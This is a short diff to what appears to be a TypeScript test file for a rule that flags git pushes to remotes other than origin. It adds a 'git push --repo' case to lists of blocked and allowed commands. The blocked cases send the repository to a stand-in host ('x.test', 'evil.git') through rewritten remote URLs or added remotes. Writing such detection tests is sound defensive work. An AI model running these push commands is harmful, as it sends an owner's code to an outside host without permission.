@@ -3,6 +3,7 @@ import type { CasesById } from '../../cases/rule-cases.ts'
 export const pushElsewhereCases: CasesById = {
   'push-elsewhere': {
     stop: [
+      'git push --repo=https://x.test/r',
       'git config remote.origin.pushurl https://x.test/r && git push',
       'git -c remote.origin.url=https://x.test/r push',
       'git push https://x.test/evil.git main',
@@ -11,6 +12,7 @@ export const pushElsewhereCases: CasesById = {
       'git remote add e https://x.test/r && git push e main',
     ],
     pass: [
+      'git push --repo=origin',
       'git config remote.origin.url && git push',
       'git push',
       'git push origin feature/x',
